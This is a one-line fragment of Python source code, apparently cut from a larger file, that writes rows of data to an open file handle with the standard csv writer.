        csv.writer(handle).writerows(rows)
